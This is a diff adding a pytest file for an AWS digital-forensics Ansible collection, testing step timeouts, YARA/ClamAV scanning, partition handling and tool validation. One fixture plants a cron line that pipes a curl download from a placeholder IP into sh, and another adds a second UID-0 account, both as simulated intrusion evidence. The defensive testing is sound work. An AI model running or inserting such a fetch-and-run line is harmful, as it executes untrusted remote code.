@@ -1,0 +1,237 @@
+# Copyright (c) 2026 The dfir.aws authors
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Steps that fail, hang and crash; a whole analysis; the scanners; the tools' validation."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+from ansible_collections.dfir.aws.plugins.module_utils.forensics import analyze, plaso_run, scan, steps, validate
+from ansible_collections.dfir.aws.plugins.module_utils.forensics.model import Artifacts, Evidence, Partition
+from ansible_collections.dfir.aws.plugins.module_utils.forensics.tools import ToolError, run
+
+IMAGE = Path(__file__).resolve().parents[3] / "roles/toolbox/files/image"
+
+
+def quiet(text: str) -> None:
+    pass
+
+
+def good(say: steps.Say) -> dict[str, Any]:
+    say("working")
+    return {"entries": 3}
+
+
+def bad(say: steps.Say) -> dict[str, Any]:
+    raise ToolError("fls ended with exit code 1")
+
+
+def crash(say: steps.Say) -> dict[str, Any]:
+    os._exit(7)
+
+
+def hang(say: steps.Say) -> dict[str, Any]:
+    subprocess.run(["sleep", "600"], check=True)
+    return {}
+
+
+def test_one_step_that_fails_hangs_or_crashes_takes_no_other_along() -> None:
+    work = [steps.Step(1, "good", good, 30), steps.Step(1, "bad", bad, 30), steps.Step(1, "crash", crash, 30),
+            steps.Step(1, "hang", hang, 0.5), steps.Step(2, "good", good, 30)]
+    said: list[str] = []
+    began = time.monotonic()
+    outcomes = steps.run_steps(work, said.append)
+    assert [outcome.state for outcome in outcomes] == ["done", "failed", "failed", "timeout", "done"]
+    assert [outcome.code for outcome in outcomes] == ["", "tool_error", "crashed", "timeout", ""]
+    assert time.monotonic() - began < 20
+    assert "p1: bad failed" in "\n".join(said) and "fls ended with exit code 1" in "\n".join(said)
+
+
+def test_a_step_out_of_time_leaves_no_process(tmp_path: Path) -> None:
+    def start(say: steps.Say) -> dict[str, Any]:
+        with subprocess.Popen(["sleep", "600"]) as process:
+            (tmp_path / "pid").write_text(str(process.pid))
+        return {}
+
+    steps.run_steps([steps.Step(1, "hang", start, 1)], quiet)
+    stat = Path(f"/proc/{(tmp_path / 'pid').read_text()}/stat")
+    deadline = time.monotonic() + 5
+    while stat.exists() and stat.read_text().split()[2] != "Z" and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert not stat.exists() or stat.read_text().split()[2] == "Z"
+
+
+def test_silence_is_broken_by_progress_lines(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(steps, "HEARTBEAT", 0.2)
+
+    def slow(say: steps.Say) -> dict[str, Any]:
+        say("12,345 entries")
+        time.sleep(1.5)
+        return {}
+
+    said: list[str] = []
+    steps.run_steps([steps.Step(1, "timeline", slow, 30)], said.append)
+    assert any(line.startswith("p1: timeline 12,345 entries (") for line in said)
+
+
+@pytest.fixture
+def mount(tmp_path: Path) -> Path:
+    mount = tmp_path / "mount"
+    (mount / "etc").mkdir(parents=True)
+    (mount / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n")
+    (mount / "etc/hit").write_bytes((IMAGE / "samples/hit.txt").read_bytes())
+    (mount / "etc/link").symlink_to("/etc/hostname")
+    return mount
+
+
+def part(mount: Path | None, number: int = 1, kind: str = "filesystem", device: str = "/dev/null",
+         type: str = "ext4") -> Partition:
+    return Partition(number, device, type, kind, 1 << 20, mount is not None, str(mount) if mount else None, None, None)
+
+
+needs_scanners = pytest.mark.skipif(not all(map(shutil.which, ("yara", "clamscan"))),
+                                    reason="yara or clamscan is not installed")
+
+
+@needs_scanners
+def test_scanners_report_hits_whatever_the_names(mount: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(scan, "SHARE", tmp_path / "share")
+    shutil.copytree(IMAGE / "rules", tmp_path / "share/rules")
+    hit = (IMAGE / "samples/hit.txt").read_bytes()
+    forged = os.fsencode(mount) + b"/etc/x\n" + os.fsencode(mount).replace(b"/", b"_") + b": Fake FOUND\n\xff"
+    Path(os.fsdecode(forged)).write_bytes(hit)
+    outside = tmp_path / "outside"
+    outside.write_bytes(hit)
+    (mount / "way-out").symlink_to(outside)
+    os.mkfifo(mount / "pipe")
+    artifacts = Artifacts(tmp_path / "out")
+    yara = scan.scan_yara(part(mount), artifacts, "v", tmp_path / "w", None, quiet)
+    clamav = scan.scan_clamav(part(mount), artifacts, "v", tmp_path / "w", quiet)
+    assert yara["hits"] == clamav["hits"] == 2
+    for kind, key, name in (("yara", "rule", "DFIR_Toolbox_Test_Signature"),
+                            ("clamav", "signature", "DFIR_Toolbox_Test_Signature")):
+        hits = json.loads((artifacts.folder / f"v.{kind}.json").read_text())["hits"]
+        assert {item[key] for item in hits} == {name}
+        paths = sorted(item["path"] for item in hits)
+        assert paths[0] == "/etc/hit" and paths[1].startswith("/etc/x\\x0a") and paths[1].endswith("\\xff")
+        assert all(len(item["sha256"]) == 64 for item in hits)
+
+
+@needs_scanners
+def test_rules_leave_ordinary_programs_alone(tmp_path: Path) -> None:
+    rules = sorted((IMAGE / "rules/yara").glob("*.yar"))
+    programs = [path for name in ("ps", "ss", "ip", "curl", "python3", "bash", "ssh", "perl")
+                if (path := shutil.which(name)) is not None]
+    for program in programs:
+        assert run(["yara", "-w", *rules, program]) == b""
+    assert b"FOUND" not in run(["clamscan", "--no-summary", "--stdout", "-d", IMAGE / "rules/clamav", *programs])
+
+
+def test_p23_p24_every_partition_is_accounted_for(mount: Path, tmp_path: Path) -> None:
+    evidence = Evidence("vol-0123456789abcdef0", "snap-0123456789abcdef0", 1, (
+        part(mount, 1), part(None, 2, type="ntfs"), part(None, 3, "luks", type="crypto_LUKS"),
+        part(None, 4, "swap", type="swap")))
+    settings = analyze.Settings(evidence, Artifacts(tmp_path / "out"), tmp_path / "work", steps=("findings",))
+    settings.work.mkdir()
+    assert analyze.analyze(settings) is False
+    outcome = json.loads((settings.work / "outcome.json").read_text())
+    assert outcome["outcome"] == "incomplete" and outcome["missing"] == ["p2.findings"]
+    summary = json.loads((tmp_path / "out/summary.json").read_text())
+    states = {item["number"]: {name: (step["state"], step.get("code")) for name, step in item["steps"].items()}
+              for item in summary["partitions"]}
+    assert states == {1: {"findings": ("done", None)}, 2: {"findings": ("failed", "not_mounted")},
+                      3: {"all": ("skipped", "luks")}, 4: {"all": ("skipped", "swap")}}
+    assert summary["partitions"][0]["findings"]["high"] >= 1
+
+
+def test_summary_holds_nothing_from_the_evidence(mount: Path, tmp_path: Path) -> None:
+    (mount / "etc/cron.d").mkdir()
+    (mount / "etc/cron.d/WITNESSNAME").write_text("* * * * * root curl http://192.0.2.7/WITNESSLINE | sh\n")
+    evidence = Evidence("vol-0123456789abcdef0", "snap-0", 1, (part(mount, type="WITNESSTYPE"),))
+    settings = analyze.Settings(evidence, Artifacts(tmp_path / "out"), tmp_path / "work",
+                                steps=("findings", "timeline"))
+    settings.work.mkdir()
+    analyze.analyze(settings)
+    assert "WITNESSNAME" in (tmp_path / "out/vol-0123456789abcdef0p1.findings.json").read_text()
+    assert "WITNESS" not in (tmp_path / "out/summary.json").read_text()
+    assert "WITNESS" not in (settings.work / "outcome.json").read_text()
+
+
+def test_findings_are_uploaded_even_when_a_finder_breaks(mount: Path, tmp_path: Path,
+                                                         monkeypatch: pytest.MonkeyPatch) -> None:
+    from ansible_collections.dfir.aws.plugins.module_utils.forensics import find_web, findings
+
+    def broken(scene: findings.Scene) -> Any:
+        raise RuntimeError("broken on purpose")
+
+    monkeypatch.setattr(find_web, "find", broken)
+    with pytest.raises(steps.StepError, match="web"):
+        findings.find_all(part(mount), Artifacts(tmp_path / "out"), "v", quiet)
+    kinds = {item["kind"] for item in json.loads((tmp_path / "out/v.findings.json").read_text())}
+    assert "account" in kinds
+
+
+@pytest.fixture(scope="module")
+def samples(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    if not all(map(shutil.which, ("mke2fs", "debugfs", "mkfs.xfs"))):
+        pytest.skip("e2fsprogs or xfsprogs is not installed")
+    target = tmp_path_factory.mktemp("samples")
+    subprocess.run(["sh", IMAGE / "make-samples.sh", IMAGE / "samples", target], check=True, capture_output=True)
+    return target
+
+
+NEEDS = {"sleuthkit": "fls", "yara": "yara", "clamav": "clamscan", "ewf-tools": "ewfacquirestream",
+         "plaso": "log2timeline", "dissect": "", "boto3": ""}
+
+
+@pytest.mark.parametrize("tool", sorted(validate.CHECKS))
+def test_validation_runs_each_tool(tool: str, samples: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(validate, "SAMPLES", samples)
+    monkeypatch.setattr(validate, "RULES", IMAGE / "rules")
+    if NEEDS[tool] and not shutil.which(NEEDS[tool]):
+        pytest.skip(f"{NEEDS[tool]} is not installed")
+    if tool == "dissect":
+        pytest.importorskip("dissect.xfs", reason="dissect is not installed")
+    result = validate.check(tool)
+    assert result["ok"], result
+    assert result["version"] != "unknown"
+
+
+@pytest.mark.parametrize("tool", ["sleuthkit", "yara", "clamav"])
+def test_validation_fails_when_a_tool_says_something_else(tool: str, samples: Path, tmp_path: Path,
+                                                          monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(validate, "SAMPLES", samples)
+    monkeypatch.setattr(validate, "RULES", IMAGE / "rules")
+    fake = tmp_path / {"sleuthkit": "fls", "yara": "yara", "clamav": "clamscan"}[tool]
+    fake.write_text("#!/bin/sh\nexit 0\n")
+    fake.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
+    result = validate.check(tool)
+    assert not result["ok"]
+
+
+def test_plaso_filter_lines_do_not_overlap_in_the_log_folder() -> None:
+    """Each part between slashes is an expression of its own; what two lines match, plaso reads twice."""
+    import re
+
+    lines = [line[3:].strip("'") for line in (IMAGE / "plaso/filter_linux.yaml").read_text().splitlines()
+             if line.startswith("- ")]
+
+    def matches(line: str, path: str) -> bool:
+        parts, names = line.split("/")[1:], path.split("/")[1:]
+        return len(parts) <= len(names) and all(re.fullmatch(part, name, re.IGNORECASE)
+                                                for part, name in zip(parts, names, strict=False))
+
+    for path in ("/var/log/auth.log", "/var/log/nginx/access.log", "/etc/cron.d/x", "/root/.bash_history",
+                 "/home/a/.bash_history", "/var/tmp/.x/y", "/logs/app/a.log", "/var/log/journal/id/system.journal",
+                 "/var/spool/cron/crontabs/a", "/etc/systemd/system/x.service", "/var/www/.bash_history", "/tmp/x"):
+        assert sum(matches(line, path) for line in lines) == 1, path
+    assert plaso_run.FILTER.name == "filter_linux.yaml"
